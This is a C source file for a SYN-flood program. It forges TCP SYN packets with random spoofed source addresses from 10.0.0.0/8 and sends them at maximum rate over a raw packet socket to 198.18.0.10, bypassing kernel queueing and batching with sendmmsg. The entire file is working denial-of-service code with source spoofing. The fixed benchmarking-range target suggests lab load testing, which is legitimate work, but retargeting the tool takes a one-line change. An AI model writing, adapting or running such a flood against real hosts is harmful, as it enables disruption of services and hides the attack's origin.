/* Sends SYNs from forged senders of 10.0.0.0/8 to 198.18.0.10, as fast as it can. Usage: flood INTERFACE SECONDS PORT
   PORT 0 is any. Says how many were sent. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define AT_ONCE 64
#define LENGTH 58

static uint64_t state = 88172645463325252ull;

static uint32_t any(void) {
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return (uint32_t)(state >> 32);
}

static void put16(uint8_t *at, unsigned value) {
  at[0] = value >> 8;
  at[1] = value;
}

static void put32(uint8_t *at, uint32_t value) {
  put16(at, value >> 16);
  put16(at + 2, value);
}

static unsigned sum(const uint8_t *at, int length, unsigned sum) {
  for (int i = 0; i < length; i += 2) sum += at[i] << 8 | at[i + 1];
  while (sum >> 16) sum = (sum & 65535) + (sum >> 16);
  return sum;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static void forge(uint8_t *ip, int port) {
  uint8_t *tcp = ip + 20;
  put32(ip + 12, 0x0A000001u + any() % 0x00FFFFFE);
  put16(ip + 4, any());
  put16(ip + 10, 0);
  put16(ip + 10, ~sum(ip, 20, 0));
  put16(tcp, 1024 + any() % 60000);
  put16(tcp + 2, port ? (unsigned)port : 1 + any() % 65535);
  put32(tcp + 4, any());
  put16(tcp + 16, 0);
  put16(tcp + 16, ~sum(tcp, 24, sum(ip + 12, 8, 6 + 24)));
}

int main(int count, char **words) {
  static uint8_t frames[AT_ONCE][LENGTH];
  struct iovec parts[AT_ONCE];
  struct mmsghdr messages[AT_ONCE];
  if (count != 4) return 2;
  double seconds = atof(words[2]), begin = now();
  int port = atoi(words[3]), one = 1, device = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll address = {
      .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(words[1])};
  if (device < 0 || bind(device, (struct sockaddr *)&address, sizeof address) < 0) return 1;
  setsockopt(device, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
  memset(messages, 0, sizeof messages);
  for (int i = 0; i < AT_ONCE; i++) {
    uint8_t *frame = frames[i], *ip = frame + 14, *tcp = ip + 20;
    memcpy(frame, "\2\0\0\0\0\x10\2\0\0\0\0\x66\x8\0", 14);
    ip[0] = 0x45;
    put16(ip + 2, 44);
    ip[8] = 64;
    ip[9] = 6;
    put32(ip + 16, 0xC612000A);
    tcp[12] = 0x60;
    tcp[13] = 2;
    put16(tcp + 14, 1024);
    memcpy(tcp + 20, "\2\4\5\xB4", 4);
    parts[i] = (struct iovec){frame, LENGTH};
    messages[i].msg_hdr.msg_iov = parts + i;
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  long sent = 0;
  while (now() - begin < seconds) {
    for (int i = 0; i < AT_ONCE; i++) forge(frames[i] + 14, port);
    int took = sendmmsg(device, messages, AT_ONCE, 0);
    if (took > 0) sent += took;
  }
  printf("sent %ld\n", sent);
  return 0;
}
